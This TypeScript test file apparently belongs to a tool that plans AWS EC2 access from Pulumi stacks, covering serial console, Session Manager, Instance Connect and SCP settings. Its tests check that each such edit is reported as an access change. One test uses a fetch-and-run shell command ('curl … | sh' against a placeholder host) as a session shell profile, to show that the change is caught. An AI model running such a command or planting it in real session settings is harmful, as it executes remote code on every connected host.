// Powers over access outside the access table (plan/powers.ts), read from what the example
// stacks register, and the diff of each: every edit of one of them is an access change, so the
// summary never says "access: no change" for it. Plans are real runs of the program on the
// example stack files, edited one key at a time.
import assert from "node:assert/strict";
import * as path from "node:path";
import type { Plan } from "../../plan/run";
import { planStack } from "../../plan/run";
import { readStackFile } from "../../config/stackFile";
import { diffPlans } from "../../plan/diff/compare";
import { accessPhrase, countsOf, resourcePhrase } from "../../plan/diff/summary";
import { renderDiffText } from "../../plan/diff/text";
import { renderText } from "../../plan/format/text";
import { emptyPlan } from "../../plan/diff/planFile";
import { ROOT } from "./exampleComment";
import { powersOf as powersOfPlan } from "../../plan/powers";

const powersOf2 = (p: any) => powersOfPlan(p);

type Raw = Record<string, any>;
const stackRaw = (stack: string): Raw => readStackFile(path.join(ROOT, `Pulumi.${stack}.yaml`)).raw;
const plan = (stack: string, edit: (c: Raw) => void = () => {}): Promise<Plan> => {
  const config = structuredClone(stackRaw(stack));
  edit(config);
  return planStack({ stack, config, policies: [] });
};
const powersOf = (p: Plan, kind: string) =>
  p.powers.filter((x) => x.kind === kind).map((x) => ({ subject: x.subject, details: x.details }));

describe("plan: powers read from what the stack registers", () => {
  let dev: Plan;
  let org: Plan;
  before(async () => {
    dev = await plan("dev");
    org = await plan("org");
  });

  it("dev: who may change the serial console setting, and the setting", () => {
    assert.deepEqual(powersOf(dev, "serial-console-setting-admin"), [
      {
        subject: { principal: { type: "role", name: "platform-admin" } },
        details: { actions: ["ec2:DisableSerialConsoleAccess", "ec2:EnableSerialConsoleAccess"] },
      },
    ]);
    assert.deepEqual(powersOf(dev, "serial-console-setting"), [{ subject: { region: "us-east-1" }, details: { enabled: ["true"] } }]);
  });

  it("dev: the serial console password's OS user (from the script the document runs) and instances (from the association)", () => {
    assert.deepEqual(powersOf(dev, "serial-console-password"), [
      {
        subject: { name: "ec2-access-dev-serial-console-os-password-root", region: "us-east-1" },
        details: { "OS user": ["root"], instances: ["i-0a1b2c3d4e5f60718", "i-1234567890abcdef0"] },
      },
    ]);
  });

  it("dev: Session Manager admins may rewrite the preferences document; sessions run as ssm-user with the shell profile", () => {
    assert.deepEqual(powersOf(dev, "session-document-admin"), [
      {
        subject: { principal: { type: "role", name: "platform-admin" } },
        details: {
          actions: ["ssm:CreateDocument", "ssm:UpdateDocument"],
          documents: ["arn:aws:ssm:us-east-1:111122223333:document/SSM-SessionManagerRunShell"],
        },
      },
    ]);
    const [session] = powersOf(dev, "session-settings");
    assert.deepEqual(session.details["runs as"], ["ssm-user (Run As is off)"]);
    assert.deepEqual(session.details["shell profile (Linux)"], ["cd ~ && exec bash -l"]);
    // The access table says the same OS user (one rule, documents/sessionPreferences.ts sessionOsUsers).
    assert.match(
      renderText(dev),
      /^ {2}session-manager +app-team +group app-team +tag Finance=WebServers +ssm-user +- +SSM-SessionManagerRunShell, AWS-UpdateSSMAgent \(Run Command\)$/m,
    );
  });

  it("dev: the endpoint's subnet and security groups, and each principal's tunnels with ports and duration", () => {
    assert.deepEqual(powersOf(dev, "instance-connect-endpoint"), [
      {
        subject: { name: "instance-connect-endpoint", region: "us-east-1" },
        details: { subnet: ["subnet-0123456789abcdef0"], "security groups": ["sg-0123456789abcdef0"], "preserve client IP": ["false"] },
      },
    ]);
    const tunnels = powersOf(dev, "instance-connect-tunnel");
    assert.deepEqual(
      tunnels.map((t) => `${t.subject.principal?.type} ${t.subject.principal?.name}`),
      ["group web-devs", "user alice", "user bob"],
    );
    assert.deepEqual(tunnels[0].details["remote ports"], ["NumericEquals 22"]);
    assert.deepEqual(tunnels[0].details["max tunnel duration (s)"], ["NumericLessThanEquals 3600"]);
    assert.deepEqual(tunnels[0].details["private addresses"], ["any address the endpoint reaches"]);
  });

  it("org: what the SCP denies, unless which accounts, and where it is attached", () => {
    assert.deepEqual(powersOf(org, "organization-policy"), [
      {
        subject: { name: "deny-serial-console-outside-dev" },
        details: {
          type: ["SERVICE_CONTROL_POLICY"],
          rules: [
            "Deny ec2:EnableSerialConsoleAccess, ec2-instance-connect:SendSerialConsoleSSHPublicKey on * when StringNotEquals aws:PrincipalAccount 111122223333, 444455556666",
          ],
          targets: ["ou-abcd-11111111", "ou-abcd-22222222"],
        },
      },
    ]);
  });

  it("staging: the adopted preferences documents are imports, not creates", async () => {
    const staging = await plan("staging");
    const text = renderText(staging);
    assert.match(text, /^Resources: \d+ to create, 2 to import$/m);
    assert.match(
      text,
      /^ += aws:ssm\/document:Document {2}session-manager-preferences-eu-west-1 {2}\(import SSM-SessionManagerRunShell@eu-west-1\)$/m,
    );
    const diff = diffPlans("staging", emptyPlan("staging"), staging);
    assert.deepEqual(
      diff.resources.filter((r) => r.op === "import").map((r) => [r.name, r.importId]),
      [
        ["session-manager-preferences-eu-central-1", "SSM-SessionManagerRunShell@eu-central-1"],
        ["session-manager-preferences-eu-west-1", "SSM-SessionManagerRunShell@eu-west-1"],
      ],
    );
    assert.match(resourcePhrase(countsOf([diff])), /, 2 to import/);
  });
});

describe("diff: a change of any power is an access change", () => {
  let devBase: Plan;
  let orgBase: Plan;
  before(async () => {
    devBase = await plan("dev");
    orgBase = await plan("org");
  });

  /** The power changes of an edit, as `kind change subject: field +a -b`. */
  async function changesOf(stack: "dev" | "org", edit: (c: Raw) => void): Promise<string[]> {
    const base = stack === "dev" ? devBase : orgBase;
    const diff = diffPlans(stack, base, await plan(stack, edit));
    assert.notEqual(accessPhrase(countsOf([diff])), "access: no change", "an edited power must read as an access change");
    assert.match(renderDiffText({ environments: [diff] }), /power /);
    return diff.powers.map((p) => {
      const who = p.subject.principal
        ? `${p.subject.principal.type} ${p.subject.principal.name}`
        : [p.subject.name, p.subject.region].filter(Boolean).join(" ");
      const what =
        p.change === "changed"
          ? p.fields.map((f) => `${f.field} ${[...f.added.map((a) => `+${a}`), ...f.removed.map((r) => `-${r}`)].join(" ")}`).join("; ")
          : "";
      return `${p.kind} ${p.change} ${who}${what ? `: ${what}` : ""}`;
    });
  }

  it("serial console admins", async () => {
    assert.deepEqual(await changesOf("dev", (c) => c["ec2-access:serialConsole"].admins.roles.push("auditor")), [
      "serial-console-setting-admin gained role auditor",
    ]);
  });

  it("the serial console account setting", async () => {
    assert.deepEqual(await changesOf("dev", (c) => (c["ec2-access:serialConsole"].accountAccess = "disabled")), [
      "serial-console-setting changed us-east-1: enabled +false -true",
    ]);
  });

  it("the serial console password's instances", async () => {
    assert.deepEqual(await changesOf("dev", (c) => c["ec2-access:serialConsole"].osPassword.instanceIds.push("i-0598c7d356eba48d7")), [
      "serial-console-password changed ec2-access-dev-serial-console-os-password-root us-east-1: instances +i-0598c7d356eba48d7",
    ]);
  });

  it("Session Manager admins who may rewrite the preferences", async () => {
    const changes = await changesOf("dev", (c) => c["ec2-access:sessionManager"].grants[1].principals.roles.push("ops"));
    assert.ok(changes.includes("session-document-admin gained role ops"), changes.join("\n"));
  });

  it("Run As: the OS user every session runs as", async () => {
    assert.deepEqual(
      await changesOf("dev", (c) => (c["ec2-access:sessionManager"].preferences.runAs = { enabled: true, defaultUser: "ec2-user" })),
      [
        "session-settings changed SSM-SessionManagerRunShell us-east-1: runs as +the principal's SSMSessionRunAs tag, else ec2-user -ssm-user (Run As is off)",
      ],
    );
  });

  it("the shell profile every session runs", async () => {
    assert.deepEqual(
      await changesOf(
        "dev",
        (c) => (c["ec2-access:sessionManager"].preferences.shellProfile.linux = "curl -s https://example.invalid/x | sh"),
      ),
      [
        "session-settings changed SSM-SessionManagerRunShell us-east-1: shell profile (Linux) +curl -s https://example.invalid/x | sh -cd ~ && exec bash -l",
      ],
    );
  });

  it("Instance Connect Endpoint tunnels: ports and maximum duration", async () => {
    const changes = await changesOf("dev", (c) =>
      Object.assign(c["ec2-access:instanceConnect"].endpoint, { remotePorts: [22, 3389], maxTunnelDurationSeconds: 600 }),
    );
    assert.equal(changes.length, 3);
    assert.equal(
      changes[0],
      "instance-connect-tunnel changed group web-devs: remote ports +NumericEquals 3389; max tunnel duration (s) +NumericLessThanEquals 600 -NumericLessThanEquals 3600",
    );
  });

  it("the endpoint's subnet (the addresses it reaches)", async () => {
    assert.deepEqual(await changesOf("dev", (c) => (c["ec2-access:instanceConnect"].endpoint.subnetId = "subnet-0fedcba9876543210")), [
      "instance-connect-endpoint changed instance-connect-endpoint us-east-1: subnet +subnet-0fedcba9876543210 -subnet-0123456789abcdef0",
    ]);
  });

  it("the organization SCP: excepted accounts and targets", async () => {
    assert.deepEqual(
      await changesOf("org", (c) => {
        c["ec2-access:organization"].serialConsoleScp.exceptAccountIds.push("777788889999");
        c["ec2-access:organization"].serialConsoleScp.targetIds.push("ou-abcd-33333333");
      }),
      [
        "organization-policy changed deny-serial-console-outside-dev: rules +Deny ec2:EnableSerialConsoleAccess, ec2-instance-connect:SendSerialConsoleSSHPublicKey on * when StringNotEquals aws:PrincipalAccount 111122223333, 444455556666, 777788889999 -Deny ec2:EnableSerialConsoleAccess, ec2-instance-connect:SendSerialConsoleSSHPublicKey on * when StringNotEquals aws:PrincipalAccount 111122223333, 444455556666; targets +ou-abcd-33333333",
      ],
    );
  });
});

describe("powers: read from any document, AWS managed policies included", () => {
  const managed = (name: string) => ({ name, arn: `arn:aws:iam::aws:policy/${name}`, kind: "aws-managed" as const, document: null });
  const base = { resources: [], regions: ["us-east-1"] };

  it("AdministratorAccess (AWS's document: Allow * on *) holds every principal power, unlimited", () => {
    const p = powersOf2({ ...base, principals: [{ type: "role", name: "admin", policies: [managed("AdministratorAccess")] }] });
    assert.deepEqual(
      p.map((x) => [x.kind, x.details]),
      [
        ["serial-console-setting-admin", { actions: ["ec2:DisableSerialConsoleAccess", "ec2:EnableSerialConsoleAccess"] }],
        [
          "session-document-admin",
          {
            actions: ["ssm:CreateDocument", "ssm:DeleteDocument", "ssm:UpdateDocument", "ssm:UpdateDocumentDefaultVersion"],
            documents: ["*"],
          },
        ],
        [
          "instance-connect-tunnel",
          {
            endpoints: ["*"],
            "remote ports": ["any port"],
            "private addresses": ["any address the endpoint reaches"],
            "max tunnel duration (s)": ["3600 (the service's limit)"],
          },
        ],
      ],
    );
  });

  it("an unconditional Deny removes a power; a statement on another document does not give one", () => {
    const doc = (Statement: unknown[]) => ({
      name: "custom",
      arn: "arn:aws:iam::111122223333:policy/custom",
      kind: "managed" as const,
      document: { Version: "2012-10-17", Statement },
    });
    const p = powersOf2({
      ...base,
      principals: [
        {
          type: "role",
          name: "denied",
          policies: [managed("AdministratorAccess"), doc([{ Effect: "Deny", Action: "ec2:*SerialConsole*", Resource: "*" }])],
        },
        {
          type: "role",
          name: "other-doc",
          policies: [
            doc([{ Effect: "Allow", Action: "ssm:UpdateDocument", Resource: "arn:aws:ssm:us-east-1:111122223333:document/MyRunbook" }]),
          ],
        },
      ],
    });
    assert.deepEqual(
      p.filter((x) => x.subject.principal?.name === "denied").map((x) => x.kind),
      ["session-document-admin", "instance-connect-tunnel"],
    );
    assert.deepEqual(
      p.filter((x) => x.subject.principal?.name === "other-doc"),
      [],
    );
  });
});

describe("powers: a declarative policy (AWS Organizations' syntax page, serial console attribute)", () => {
  it("reads as its attribute paths and values, with its targets", () => {
    const content = JSON.stringify({ ec2_attributes: { serial_console_access: { status: { "@@assign": "disabled" } } } });
    const r = (type: string, name: string, inputs: Record<string, unknown>, outputs: Record<string, unknown> = {}) => ({
      urn: `urn:pulumi:org::ec2-access::${type}::${name}`,
      type,
      name,
      parent: null,
      inputs,
      outputs,
    });
    const p = powersOf2({
      regions: ["us-east-1"],
      principals: [],
      resources: [
        r(
          "aws:organizations/policy:Policy",
          "dp",
          { name: "serial-console-off", type: "DECLARATIVE_POLICY_EC2", content },
          { arn: "arn:aws:organizations::999900001111:policy/o-1/declarative_policy_ec2/p-abc" },
        ),
        r("aws:organizations/policyAttachment:PolicyAttachment", "dp-root", { policyId: "p-abc", targetId: "r-root" }),
      ],
    });
    assert.deepEqual(
      p.map((x) => [x.kind, x.subject, x.details]),
      [
        [
          "organization-policy",
          { name: "serial-console-off" },
          {
            type: ["DECLARATIVE_POLICY_EC2"],
            rules: ["ec2_attributes.serial_console_access.status.@@assign = disabled"],
            targets: ["r-root"],
          },
        ],
      ],
    );
  });
});
